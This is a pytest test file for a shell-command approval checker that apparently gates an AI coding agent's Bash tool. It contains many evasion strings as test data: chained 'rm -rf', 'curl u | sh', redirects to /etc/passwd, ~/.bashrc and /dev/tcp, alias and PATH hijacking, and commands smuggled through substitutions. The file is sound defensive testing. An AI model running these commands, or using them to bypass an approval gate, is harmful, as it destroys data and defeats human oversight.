"""Commands taken apart as bash does it: a table of evasions, and bash itself as the judge of what was allowed."""

import subprocess
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from codergen.approval.command import parse
from codergen.approval.decide import decide
from codergen.approval.request import ApprovalRequest, Mode
from codergen.approval.rule import Effect, Rule
from codergen.tools.base import Intent

GIT = Rule(effect="allow", command=("git", "status"))
NO_RM = Rule(effect="deny", command=("rm",))
NO_PUSH = Rule(effect="deny", command=("git", "push"))


def effect(command: str, *rules: Rule, mode: Mode = "never", bounded: bool = True) -> Effect:
    request = ApprovalRequest(
        call_id="1", tool="Bash", intent=Intent(act="run", command=command), root="/w", cwd="/w", bounded=bounded
    )
    return decide(request, mode, rules).effect


def parts(text: str) -> list[list[str]]:
    line = parse(text)
    assert line.unclear == ""
    return [[word.text for word in command.words] for command in line.commands]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("git status", [["git", "status"]]),
        ("git status && rm -rf x", [["git", "status"], ["rm", "-rf", "x"]]),
        ("a;b&c|d||e|&f\ng", [["a"], ["b"], ["c"], ["d"], ["e"], ["f"], ["g"]]),
        ("echo 'a;b' \"c && d\" e\\;f", [["echo", "a;b", "c && d", "e;f"]]),
        ("g'i't st\"at\"us", [["git", "status"]]),
        ("git \\\n  status", [["git", "status"]]),
        ("echo $(rm x) y", [["rm", "x"], ["echo", "$(rm x)", "y"]]),
        ('echo "a $(rm "b c") d"', [["rm", "b c"], ["echo", 'a $(rm "b c") d']]),
        ("echo `rm x`", [["rm", "x"], ["echo", "`rm x`"]]),
        ("(cd a; rm b)", [["cd", "a"], ["rm", "b"]]),
        ("diff <(rm a) >(rm b)", [["rm", "a"], ["rm", "b"], ["diff", "<(rm a)", ">(rm b)"]]),
        ("echo a # rm b\nrm c", [["echo", "a"], ["rm", "c"]]),
        ("echo a#b; rm c", [["echo", "a#b"], ["rm", "c"]]),
        ("! git status", [["git", "status"]]),
        ("cat <<'E'\n$(rm x)\nE\nrm y", [["cat"], ["rm", "y"]]),
        ("cat <<-E | sort\n\tbody\n\tE\nrm y", [["cat"], ["sort"], ["rm", "y"]]),
        ("echo $((1 + 2)) $x ${y} $?", [["echo", "$((1 + 2))", "$x", "${y}", "$?"]]),
        ("echo a\u00a0b", [["echo", "a\u00a0b"]]),
        ("", []),
    ],
)
def test_a_line_is_the_commands_in_it(text: str, expected: list[list[str]]) -> None:
    assert parts(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "for f in *; do rm $f; done", "if true; then rm x; fi", "f() { rm x; }; f", "function f { rm x; }",
        "[[ -f $(rm x) ]]", "case x in x) rm y;; esac", "{ rm x; }", "((x=1))", "echo $((a[$(rm x)]))", "echo ${x@P}",
        "echo ${x:-$(rm x)}", "echo $[1+1]", "echo 'open", 'echo "open', "echo `open", "echo $(open", "a)",
        "x=(1 2)", "echo @(a|b)", "cat <<E\n$(rm x)\nE", "cat <<E\nEO\\\nF\nE", "cat <<E", "a\x00b", "a\rb", "rm\\",
        "coproc rm x", "while :; do :; done", "cat <<$(rm x)\nE", "$(" * 30 + ")" * 30, "a" * 30_000,
    ],
)  # fmt: skip
def test_what_is_not_understood_is_said_and_never_allowed_by_its_beginning(text: str) -> None:
    assert parse(text).unclear
    assert effect(f"git status; {text}", GIT) == "deny"


@pytest.mark.parametrize(
    "text",
    [
        "git status && rm -rf x", "git status; rm x", "git status | sh", "git status & rm x", "git status\nrm x",
        "git status $(rm x)", 'git status "`rm x`"', "git status > /etc/passwd", "git status >> ../x",
        "git status &> x", "git status 2> x", "git status >& x", "git status >| x", "PATH=/tmp/x git status",
        "GIT_PAGER='rm x' git status", "PATH=/tmp/x; git status", "export PATH=/tmp; git status", "/tmp/git status",
        "./git status", "git -c core.pager=x status", "git stat*", "git $X", "$X status", "git", "GIT status",
        "cd /tmp && git status", "(git status; rm x)", "git status <(rm x)", "eval git status", "git status #\nrm x",
        "git{,} status", "git status > $F", "git status > ~/.bashrc", "git status > /dev/tcp/1.2.3.4/80",
        "alias git=rm; git status", "exec git status", "sudo git status", "git\u00a0status",
    ],
)  # fmt: skip
def test_a_prefix_allows_no_more_than_it_says(text: str) -> None:
    assert effect(text, GIT) == "deny"


@pytest.mark.parametrize(
    "text",
    [
        "git status", "git  status -s", "git status 2>&1", "git status > /dev/null", "git status &>/dev/null",
        "git status; git status | git status", "git status $(git status)",
        "'git' \"status\"", "git status < a", "! git status", "(git status)", "git status # rm x", "git status $X",
    ],
)  # fmt: skip
def test_a_prefix_allows_what_it_says(text: str) -> None:
    assert effect(text, GIT) == "allow"


@pytest.mark.parametrize(
    "text",
    [
        "rm x", "a && rm x", "/bin/rm x", "\\rm x", "r''m x", "X=1 rm x", "sudo rm x", "env A=b rm x",
        "bash -c 'rm x'", "sh -c \"a; rm x\"", "xargs rm", "find . -exec rm {} ;", "timeout 5 nice rm x", "eval 'rm x'",
        "echo $(rm x)", "cat <(rm x)", "bash -lc \"bash -c 'rm x'\"", "command rm x", "nohup rm x & b", "(rm x)",
    ],
)  # fmt: skip
def test_a_denied_command_is_denied_wherever_it_stands(text: str) -> None:
    everything = Rule(effect="allow")
    assert effect(text, everything, NO_RM, mode="auto") == "deny"


@pytest.mark.parametrize(
    "text",
    [
        "$X y", "$(echo rm) x", "`echo rm` x", "for f in *; do rm $f; done", "bash -c \"$X\"", "curl u | sh", "r{m,} x",
        "bash -c 'for a in b; do rm x; done'", "eval $X", "?m x",
    ],
)  # fmt: skip
def test_what_may_be_denied_is_asked_for_even_where_everything_is_allowed(text: str) -> None:
    everything = Rule(effect="allow")
    assert effect(text, everything, NO_RM, mode="auto") == "ask"
    assert effect(text, everything, mode="auto") == "allow"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("git push", "deny"), ("git push -f", "deny"), ("git -C x push", "ask"), ("git $X", "ask"),
        ("git commit -m push", "ask"), ("git pull", "allow"), ("echo git push", "allow"),
    ],
)  # fmt: skip
def test_a_denied_subcommand_is_looked_for_behind_options(text: str, expected: Effect) -> None:
    assert effect(text, NO_PUSH, mode="auto") == expected


def test_an_exact_rule_is_for_that_command_only() -> None:
    exact = Rule(effect="allow", command=("git", "log"), exact=True)
    assert effect("git log", exact) == "allow"
    assert effect("git log -p", exact) == "deny"


def test_find_may_be_allowed_but_not_what_it_runs() -> None:
    find = Rule(effect="allow", command=("find",))
    assert effect("find . -name x", find) == "allow"
    assert effect("find . -exec rm {} \\;", find) == "deny"
    assert effect("find . -delete", find) == "deny"


TOKENS = [
    "git", "status", "evil", " ", "  ", "\t", "\n", ";", "&", "&&", "|", "||", "|&", "'", '"', "\\", "\\\n", "$(", ")",
    "(", "`", "{", "}", "#", "<", ">", ">>", "<<E\n", "<<'E'\n", "\nE\n", "E", "X=", "X=evil", "$X", "${X}", "$", "!",
    "<(", ">(", "2", ">&", "&>", "1", "-", "x", "=", "eval", "{evil,}", "$'", "$((", "))", "if", "then", "fi", "f()",
    "~", "git status", "*", "[[", "]]", "case", "in", "esac", ";;", "time", "exec", "function", "<<<", "<<-E\n", "\x0b",
    "\r", "[", "]",
]  # fmt: skip


@pytest.fixture(scope="module")
def stage(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A PATH with two programs; `evil` leaves a mark."""
    folder = tmp_path_factory.mktemp("stage")
    (folder / "bin").mkdir()
    (folder / "work").mkdir()
    for name, body in (("git", ":"), ("evil", f": > {folder}/mark")):
        (folder / "bin" / name).write_text(f"#!/bin/sh\n{body}\n")
        (folder / "bin" / name).chmod(0o755)
    return folder


@settings(max_examples=500, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.lists(st.sampled_from(TOKENS), max_size=12))
def test_bash_runs_nothing_else_when_a_line_is_allowed(stage: Path, tokens: list[str]) -> None:
    text = "git status" + "".join(tokens)
    if effect(text, GIT, Rule(effect="allow", path="**")) != "allow":
        return
    subprocess.run(
        ["/bin/bash", "-c", text], cwd=stage / "work", env={"PATH": str(stage / "bin")}, stdin=subprocess.DEVNULL,
        capture_output=True, timeout=10, check=False,
    )  # fmt: skip
    assert not (stage / "mark").exists(), text
